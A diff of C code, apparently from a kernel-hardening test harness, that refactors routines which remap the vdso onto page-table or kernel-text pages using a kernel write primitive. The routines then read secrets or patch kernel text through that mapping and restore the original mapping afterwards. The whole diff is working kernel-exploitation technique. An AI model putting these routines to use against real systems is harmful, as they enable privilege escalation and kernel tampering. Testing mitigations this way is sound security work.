@@ -58,23 +58,41 @@ static bool find_vdso(void *vdso, struct changed_vma *old)
 	return old->pointer_slot;
 }
 
-/* Nothing here may call the vdso while the table is in its place. */
+static struct changed_vma vdso_was;
+
+volatile char *vdso_replace(uint64_t page, int *err)
+{
+	volatile char *vdso = (void *)getauxval(AT_SYSINFO_EHDR);
+
+	if (!find_vdso((void *)vdso, &vdso_was))
+		return NULL;
+	*err = forge_special_mapping(&vdso_was, page);
+	madvise((void *)vdso, PAGE_SIZE, MADV_DONTNEED);
+	(void)vdso[0];	/* a fault that reads maps it to be written */
+	return vdso;
+}
+
+void vdso_put_back(void)
+{
+	madvise((void *)getauxval(AT_SYSINFO_EHDR), PAGE_SIZE, MADV_DONTNEED);
+	kwrite64(vdso_was.pointer_slot, vdso_was.pointer);
+	kwrite64(vdso_was.vma + VMA_PROT, vdso_was.protection);
+}
+
 enum outcome vdso_page(void)
 {
-	void *vdso = (void *)getauxval(AT_SYSINFO_EHDR);
-	struct changed_vma old;
+	volatile char *vdso;
 	struct window window;
 	char text[64];
 	int err;
 
-	if (!window_open(&window, LEVEL_PTE) || !find_vdso(vdso, &old))
+	if (!window_open(&window, LEVEL_PTE))
+		return broken("no table found");
+	vdso = vdso_replace(page_of(window.slot), &err);
+	if (!vdso)
 		return broken("no mapping of the vdso found");
-	err = forge_special_mapping(&old, page_of(window.slot));
-	madvise(vdso, PAGE_SIZE, MADV_DONTNEED);
 	take_secret_in(vdso, &window, text, sizeof(text));
-	madvise(vdso, PAGE_SIZE, MADV_DONTNEED);
-	kwrite64(old.pointer_slot, old.pointer);
-	kwrite64(old.vma + VMA_PROT, old.protection);
+	vdso_put_back();
 	return judge_secret(text, err);
 }
 
@@ -93,19 +111,16 @@ static char *in_page(volatile void *page)
 
 enum outcome vdso_text(void)
 {
-	void *vdso = (void *)getauxval(AT_SYSINFO_EHDR);
 	uint64_t page = page_of_text();
-	struct changed_vma old;
+	volatile char *vdso;
 	enum outcome outcome;
+	int err;
 
-	if (!page || !find_vdso(vdso, &old))
+	vdso = page ? vdso_replace(page, &err) : NULL;
+	if (!vdso)
 		return broken("no mapping of the vdso, or no kernel text found");
-	forge_special_mapping(&old, page);
-	madvise(vdso, PAGE_SIZE, MADV_DONTNEED);
 	outcome = patch_text_in_user_mapping(in_page(vdso));
-	madvise(vdso, PAGE_SIZE, MADV_DONTNEED);
-	kwrite64(old.pointer_slot, old.pointer);
-	kwrite64(old.vma + VMA_PROT, old.protection);
+	vdso_put_back();
 	return outcome;
 }
 
